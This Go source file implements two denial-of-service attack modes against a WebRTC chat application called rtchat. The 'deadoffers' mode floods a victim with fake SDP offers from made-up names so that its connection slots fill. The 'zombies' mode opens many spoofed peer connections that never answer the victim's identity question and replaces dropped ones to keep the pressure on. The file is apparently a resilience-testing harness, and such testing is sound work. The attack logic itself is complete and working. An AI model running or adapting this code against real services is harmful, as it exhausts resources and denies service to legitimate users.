package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"sync"
	"sync/atomic"
	"time"
)

// filler sends offers nobody will ever complete: valid SDPs whose candidates point at a
// closed socket, each from a made-up name. A victim that answers one holds a connection
// slot (and a PeerConnection with its socket) for as long as it waits for ICE.
type filler struct {
	r        *room
	target   string
	prefix   string
	info     userInfo
	template string
	answered atomic.Int64
	mu       sync.Mutex
	names    map[string]bool
	next     int
	off      func()
}

func newFiller(r *room, target, prefix string, info userInfo) *filler {
	f := &filler{r: r, target: target, prefix: prefix, info: info, names: map[string]bool{}}
	f.off = r.on(func(env envelope, _ []byte) {
		if env.Sender != target || env.Subtopic != subAnswer {
			return
		}
		var d answerData
		if json.Unmarshal(env.Data, &d) != nil {
			return
		}
		f.mu.Lock()
		ours := f.names[d.Target]
		f.mu.Unlock()
		if ours {
			f.answered.Add(1)
		}
	})
	return f
}

func (f *filler) stop() { f.off() }

// send publishes n dead offers, at most rate per second (0: as fast as possible).
func (f *filler) send(ctx context.Context, n int, rate float64) error {
	if f.template == "" {
		sdp, err := deadSDP(ctx)
		if err != nil {
			return fmt.Errorf("dead SDP: %w", err)
		}
		f.template = sdp
	}
	start := time.Now()
	for i := 0; i < n; i++ {
		if rate > 0 {
			pace(ctx, start, i, rate)
		}
		f.mu.Lock()
		name := fmt.Sprintf("%s%04d(dead)", f.prefix, f.next)
		f.next++
		f.names[name] = true
		f.mu.Unlock()
		err := f.r.publish(ctx, name, subOffer, map[string]any{
			"userInfo": f.info,
			"offer":    map[string]any{"localDescription": sessionDesc{Type: "offer", SDP: varySDP(f.template)}, "target": f.target},
		})
		if err != nil {
			return err
		}
	}
	return nil
}

// pace sleeps until the i-th event of a schedule of rate per second that began at start.
func pace(ctx context.Context, start time.Time, i int, rate float64) {
	at := start.Add(time.Duration(float64(i) / rate * float64(time.Second)))
	if d := time.Until(at); d > 0 {
		t := time.NewTimer(d)
		defer t.Stop()
		select {
		case <-t.C:
		case <-ctx.Done():
		}
	}
}

// deadoffers mode: -n offers with dead SDPs from made-up rtchat-looking names (an
// unpinned rtchat peer gets a connection from a listener, so that it can be told why it
// is refused). Events: victim, ready (after a barrier: the victim handled every offer),
// summary (how many the victim answered).
func runDeadOffers(ctx context.Context, args []string, ctl *control) error {
	fs := flag.NewFlagSet("deadoffers", flag.ExitOnError)
	var c common
	var n int
	var kind string
	fs.IntVar(&n, "n", 150, "offers")
	fs.StringVar(&kind, "kind", "rtchat", "what the made-up senders look like: rtchat (a dialer) or web")
	ctx, r, id, done, err := parseAttack(ctx, fs, &c, args)
	if err != nil {
		return err
	}
	defer done()
	bob, _, err := r.findListener(ctx, c.victim)
	if err != nil {
		return err
	}
	out.emit("victim", map[string]any{"name": bob})
	info := userInfo{PublicKeyString: id.PublicJWK, RTChat: &rtchatInfo{V: 1, Role: "connect"}}
	if kind == "web" {
		info.RTChat = nil
	}
	f := newFiller(r, bob, "m", info)
	defer f.stop()
	start := time.Now()
	if err := f.send(ctx, n, 0); err != nil {
		return err
	}
	synced := r.barrier(ctx, bob, 20*time.Second)
	out.emit("ready", map[string]any{"sent": n, "answered": f.answered.Load(), "barrier": synced, "ms": time.Since(start).Milliseconds()})
	select {
	case <-ctl.stopCh:
	case <-ctx.Done():
	}
	out.emit("summary", map[string]any{"sent": n, "answered": f.answered.Load()})
	return nil
}

// zombies mode: -n real pion peers connect to the victim and never answer its identity
// question: web pages or rtchat dialers under made-up full names of a name it pinned
// (-bare: alice(zw0001), alice(zr0002)), or rtchat dialers under made-up names nobody
// pinned (z0003(zu), refused at once); -kind web, rtchat, unpinned, or mixed (web and
// rtchat in turn: the ones that hold a slot until the victim gives up verifying them).
// "ready" comes once every first attempt connected or gave up (-dial-timeout). With -sustain, each
// zombie the victim drops is replaced by a new one (at most -rate new ones per second),
// as a determined attacker would. Events: victim, ready (every first attempt ended:
// connected or failed), summary.
func runZombies(ctx context.Context, args []string, ctl *control) error {
	fs := flag.NewFlagSet("zombies", flag.ExitOnError)
	var c common
	var n, par int
	var bare, kind string
	var sustain bool
	var rate float64
	var dialTimeout time.Duration
	fs.IntVar(&n, "n", 130, "zombie connections")
	fs.IntVar(&par, "parallel", 0, "connection attempts at once (0: all)")
	fs.DurationVar(&dialTimeout, "dial-timeout", 5*time.Second, "give up on one connection attempt after this")
	fs.StringVar(&bare, "bare", "alice", "the pinned bare name the zombies' made-up full names carry")
	fs.StringVar(&kind, "kind", "mixed", "web, rtchat, unpinned or mixed")
	fs.BoolVar(&sustain, "sustain", true, "replace zombies the victim drops")
	fs.Float64Var(&rate, "rate", 20, "at most this many replacement zombies per second")
	ctx, cancel := parse(ctx, fs, &c, args)
	defer cancel()
	if par <= 0 {
		par = n
	}
	id, r, err := mallory(ctx, c)
	if err != nil {
		return err
	}
	defer r.close()
	bob, _, err := r.findListener(ctx, c.victim)
	if err != nil {
		return err
	}
	out.emit("victim", map[string]any{"name": bob})
	start := time.Now()

	var connected, failed, dropped, questions, attempts atomic.Int64
	var mu sync.Mutex
	var live []*peer
	var seq atomic.Int64
	// zombie makes one connection and returns once it is up (or failed); done is closed
	// when the victim drops it.
	zombie := func(ctx context.Context) (done <-chan struct{}, ok bool) {
		i := seq.Add(1)
		attempts.Add(1)
		k := kind
		if k == "mixed" {
			k = []string{"web", "rtchat"}[i%2]
		}
		labels, info := rtchatLabels(), userInfo{PublicKeyString: id.PublicJWK, RTChat: &rtchatInfo{V: 1, Role: "connect"}}
		var name string
		switch k {
		case "web":
			labels, info.RTChat = browserLabels, nil
			name = fmt.Sprintf("%s(zw%04d)", bare, i)
		case "rtchat":
			name = fmt.Sprintf("%s(zr%04d)", bare, i)
		default: // an rtchat dialer nobody pinned: a listener connects it to refuse it
			name = fmt.Sprintf("z%04d(zu)", i)
		}
		p, err := newPeer(name, bob, true, labels, func(label string, data []byte) {
			if label == "question" {
				questions.Add(1) // the identity question: never answered
			}
		})
		if err != nil {
			failed.Add(1)
			return nil, false
		}
		dctx, cancel := context.WithTimeout(ctx, dialTimeout)
		defer cancel()
		if err := p.dial(dctx, r, info); err != nil {
			failed.Add(1)
			p.close()
			return nil, false
		}
		connected.Add(1)
		mu.Lock()
		live = append(live, p)
		mu.Unlock()
		return p.closed, true
	}
	var wg sync.WaitGroup
	sem := make(chan struct{}, par)
	replace := make(chan struct{}, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			if done, ok := zombie(ctx); ok {
				go func() {
					select {
					case <-done:
						dropped.Add(1)
						replace <- struct{}{}
					case <-ctx.Done():
					}
				}()
			}
		}()
	}
	wg.Wait()
	out.emit("ready", map[string]any{"attempted": n, "connected": connected.Load(), "failed": failed.Load(), "questions": questions.Load(), "ms": time.Since(start).Milliseconds()})
	var sustainWG sync.WaitGroup
	sctx, scancel := context.WithCancel(ctx)
	if sustain {
		sustainWG.Add(1)
		go func() {
			defer sustainWG.Done()
			t0, k := time.Now(), 0
			for {
				select {
				case <-replace:
				case <-sctx.Done():
					return
				}
				pace(sctx, t0, k, rate)
				k++
				sustainWG.Add(1)
				go func() {
					defer sustainWG.Done()
					if done, ok := zombie(sctx); ok {
						select {
						case <-done:
							dropped.Add(1)
							select {
							case replace <- struct{}{}:
							default:
							}
						case <-sctx.Done():
						}
					}
				}()
			}
		}()
	}
	select {
	case <-ctl.stopCh:
	case <-ctx.Done():
	}
	scancel()
	sustainWG.Wait()
	out.emit("summary", map[string]any{
		"attempts": attempts.Load(), "connected": connected.Load(), "failed": failed.Load(),
		"dropped_by_victim": dropped.Load(), "questions": questions.Load(),
	})
	mu.Lock()
	for _, p := range live {
		p.close()
	}
	mu.Unlock()
	return nil
}
